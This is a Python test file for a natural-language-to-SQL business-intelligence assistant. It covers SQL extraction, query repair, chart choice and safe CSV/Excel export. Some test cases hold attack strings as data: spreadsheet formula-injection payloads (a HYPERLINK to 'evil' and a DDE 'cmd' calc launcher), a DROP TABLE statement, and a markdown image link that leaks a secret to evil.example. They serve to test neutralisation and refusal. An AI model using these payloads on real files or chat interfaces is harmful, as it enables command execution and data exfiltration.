"""ChatBI answering: SQL from the model, self-repair, follow-ups, summaries, charts and downloads."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from services.chatbi.assistant import Turn, ask, extract_sql, fallback_summary, rerun
from services.chatbi.charts import choose_chart, figure, switch_kind
from services.chatbi.engine import DuckSession
from services.chatbi.exports import neutralize, to_csv_bytes, to_excel_bytes
from services.chatbi.workspace import Workspace
from services.providers.replay import script_for

ORDERS = "order_date,region,product,amount\n" + "".join(
    f"{d},{r},{p},{a}\n" for d, r, p, a in [
        ("2022-11-03", "east", "laptop", 1200), ("2022-12-14", "west", "monitor", 300),
        ("2023-01-05", "east", "monitor", 250), ("2023-02-11", "west", "laptop", 1500),
        ("2023-02-20", "north", "keyboard", 80), ("2023-03-01", "east", "laptop", 1100),
    ] + [(f"2023-04-{i:02d}", "south", "cable", 10) for i in range(1, 21)])


@pytest.fixture
def session(tmp_path):
    path = tmp_path / "orders.csv"
    path.write_text(ORDERS, encoding="utf-8")
    s = DuckSession()
    s.add_file(path)
    yield s
    s.close()


@pytest.mark.parametrize("reply, expected", [
    ("```sql\nSELECT 1\n```", "SELECT 1"),
    ("Here you go:\n```SQL\nSELECT 2\n```\nThis counts things.", "SELECT 2"),
    ('{"sql": "SELECT 3"}', "SELECT 3"),
    ('```json\n{"thoughts": "easy", "sql": "SELECT 4"}\n```', "SELECT 4"),
    ("<think>which table?</think>```sql\nSELECT 5\n```", "SELECT 5"),
    ("```\nWITH a AS (SELECT 6) SELECT * FROM a\n```", "WITH a AS (SELECT 6) SELECT * FROM a"),
    ("SELECT 7", "SELECT 7"),
    ("I cannot answer that.", None),
])
def test_sql_is_taken_from_fences_or_json(reply, expected):
    assert extract_sql(reply) == expected


def test_question_is_answered_with_table_chart_and_model_summary(session, replay_conn):
    conn = replay_conn(["```sql\nSELECT region, sum(amount) AS total FROM orders GROUP BY region "
                        "ORDER BY total DESC\n```", "East leads with 2,550."])
    answer = ask(session, conn, "各地区销售额合计？", lang="zh")
    assert answer.ok and answer.summary_by_model
    assert answer.result.rows[0] == ("east", 2550)
    assert answer.chart.kind == "bar" and answer.chart.x == "region" and answer.chart.y == ["total"]
    assert answer.summary == "East leads with 2,550."
    sql_call, summary_call = script_for(conn.replay_path).requests
    system = sql_call[0]["content"]
    # Schema context: names, types and a few sample rows, never the whole table.
    assert '"orders"' in system and '"amount" BIGINT' in system and "2022-11-03" in system
    assert system.count("cable") <= 3
    assert "DuckDB" in system and "Chinese" in system
    assert sql_call[-1] == {"role": "user", "content": "各地区销售额合计？"}
    assert "east | 2550" in summary_call[-1]["content"]
    assert "Simplified Chinese" in summary_call[0]["content"]


def test_failed_query_is_repaired_with_the_error_up_to_two_more_times(session, replay_conn):
    conn = replay_conn(["```sql\nSELECT regoin FROM orders\n```",
                        "```sql\nSELECT region, sum(amount) FROM order GROUP BY 1\n```",
                        "```sql\nSELECT region, sum(amount) AS total FROM orders GROUP BY 1 ORDER BY 1\n```",
                        "summary"])
    seen = []
    answer = ask(session, conn, "total per region", lang="en", on_attempt=lambda n, a: seen.append((n, a.error)))
    assert answer.ok and len(answer.attempts) == 3
    assert [n for n, _ in seen] == [1, 2, 3] and seen[2][1] is None
    requests = script_for(conn.replay_path).requests
    first_repair = requests[1][-1]["content"]
    assert "regoin" in first_repair and "corrected query" in first_repair
    assert requests[1][-2] == {"role": "assistant", "content": "```sql\nSELECT regoin FROM orders\n```"}
    assert len(requests[2]) == len(requests[1]) + 2  # the second repair sees the whole exchange


def test_gives_up_after_three_attempts_with_the_last_error(session, replay_conn):
    conn = replay_conn(["```sql\nSELECT nope FROM orders\n```", "I am not sure.",
                        "```sql\nSELECT nope2 FROM orders\n```", "never used"])
    answer = ask(session, conn, "?", lang="en")
    assert not answer.ok and len(answer.attempts) == 3
    assert answer.error.key == "bi.error.gave_up" and "nope2" in answer.error.message("en")
    assert answer.attempts[1].error.key == "bi.error.no_sql"
    assert len(script_for(conn.replay_path).requests) == 3


def test_follow_up_questions_carry_the_conversation(session, replay_conn):
    conn = replay_conn(["```sql\nSELECT year(order_date) AS year, sum(amount) AS total FROM orders GROUP BY 1 "
                        "ORDER BY 1\n```", "s1",
                        "```sql\nSELECT sum(amount) AS total FROM orders WHERE year(order_date) = 2023\n```", "s2"])
    ws = Workspace()
    ws.files = session
    first = ws.ask(conn, "sales per year", "en")
    second = ws.ask(conn, "and only for 2023?", "en")
    assert first.chart.kind == "line" and first.chart.x == "year"
    assert second.result.rows == [(3130,)]
    third_call = script_for(conn.replay_path).requests[2]
    assert third_call[1] == {"role": "user", "content": "sales per year"}
    assert third_call[2]["role"] == "assistant" and "year(order_date)" in third_call[2]["content"].lower()
    assert third_call[-1]["content"] == "and only for 2023?"


def test_summary_falls_back_to_a_plain_one_when_the_model_fails(session, replay_conn):
    conn = replay_conn(["```sql\nSELECT product, sum(amount) AS total FROM orders GROUP BY 1 ORDER BY 2 DESC\n```"])
    answer = ask(session, conn, "sales by product", lang="en")  # the summary call finds the replay exhausted
    assert answer.ok and not answer.summary_by_model
    assert "laptop (3,800)" in answer.summary and "keyboard (80)" in answer.summary
    assert "could not write a summary" in answer.summary


def test_fallback_summary_in_chinese(session):
    result = session.run("SELECT count(*) FROM orders")
    assert fallback_summary(result, "zh") == "结果为：26。"
    assert fallback_summary(session.run("SELECT * FROM orders WHERE amount < 0"), "zh") == "查询没有返回任何行。"


def test_edited_sql_reruns_through_the_same_checks(session):
    answer = rerun(session, "SELECT region, count(*) AS n FROM orders GROUP BY 1 ORDER BY 2 DESC", "edited")
    assert answer.ok and answer.result.rows[0] == ("south", 20)
    bad = rerun(session, "DROP TABLE orders", "edited")
    assert bad.error is not None and bad.error.key == "bi.error.refused"
    assert session.table_names() == ["orders"]


def test_question_about_a_table_that_does_not_exist(session, replay_conn):
    conn = replay_conn(["```sql\nSELECT * FROM customers\n```"])
    answer = ask(session, conn, "list customers", lang="en", max_repairs=0)
    assert "customers" in answer.error.message("en")
    assert session.table_names() == ["orders"]


@pytest.mark.parametrize("columns, rows, question, kind", [
    (["month", "sales"], [(dt.date(2023, 1, 1), 5), (dt.date(2023, 2, 1), 7)], "trend", "line"),
    (["年份", "销售额"], [(2021, 5), (2022, 7), (2023, 9)], "每年销售额", "line"),
    (["month", "sales"], [("2023-01", 5), ("2023-02", 7)], "", "line"),
    (["region", "sales"], [("east", 5), ("west", 7)], "sales by region", "bar"),
    (["region", "sales"], [("east", 5), ("west", 7)], "各地区销售额占比", "pie"),
    (["region", "sales"], [("east", 5), ("west", 7)], "share of sales by region", "pie"),
    (["price", "quantity"], [(1.0, 5), (2.0, 3), (3.5, 1)], "price vs quantity", "scatter"),
    (["total"], [(42,)], "how many", "table"),
    (["name", "city"], [("a", "b")], "", "table"),
])
def test_chart_kind_follows_the_data(columns, rows, question, kind):
    assert choose_chart(columns, rows, question).kind == kind


def test_chart_can_be_switched_and_drawn(session):
    result = session.run("SELECT region, sum(amount) AS total, count(*) AS n FROM orders GROUP BY 1")
    spec = choose_chart(result.columns, result.rows, "")
    frame = result.to_frame()
    for kind in ("line", "bar", "pie", "scatter"):
        fig = figure(frame, switch_kind(spec, kind, result.columns, result.rows), "en")
        assert fig is not None and fig.data, kind
    assert figure(frame, switch_kind(spec, "table", result.columns, result.rows)) is None
    pie = switch_kind(spec, "pie", result.columns, result.rows)
    assert pie.x == "region" and pie.y == ["total"]


@pytest.mark.parametrize("value, safe", [
    ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("normal", "normal"), (-5, -5), (3.5, 3.5),
])
def test_formula_injection_is_neutralised(value, safe):
    assert neutralize(value) == safe


def test_downloads_keep_chinese_and_neutralise_formulas():
    frame = pd.DataFrame({"城市": ["北京", "=cmd|' /C calc'!A0"], "金额": [-1200, 300]})
    csv = to_csv_bytes(frame)
    assert csv.startswith(b"\xef\xbb\xbf")
    text = csv.decode("utf-8-sig")
    assert "北京" in text and "'=cmd" in text and "\n北京,-1200" in text.replace("\r", "")
    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(frame)))
    sheet = book.active
    assert sheet["A3"].value == "'=cmd|' /C calc'!A0" and sheet["A3"].data_type == "s"
    assert sheet["B2"].value == -1200


def test_turn_history_skips_failed_questions(session, replay_conn):
    from services.chatbi.assistant import history_messages
    history = [Turn("q1", "SELECT 1"), Turn("q2", None), Turn("q3", "SELECT 3")]
    assert [m["content"] for m in history_messages(history)] == ["q1", "```sql\nSELECT 1\n```", "q3",
                                                                  "```sql\nSELECT 3\n```"]


def test_model_text_is_shown_literally_not_as_markdown():
    from services.chatbi.assistant import escape_markdown
    shown = escape_markdown("Sales ![pixel](http://evil.example/?d=secret) rose *12.5%* <img src=x>")
    assert "![" not in shown and "](" not in shown and "\\<img" in shown
    assert shown.replace("\\", "") == "Sales ![pixel](http://evil.example/?d=secret) rose *12.5%* <img src=x>"
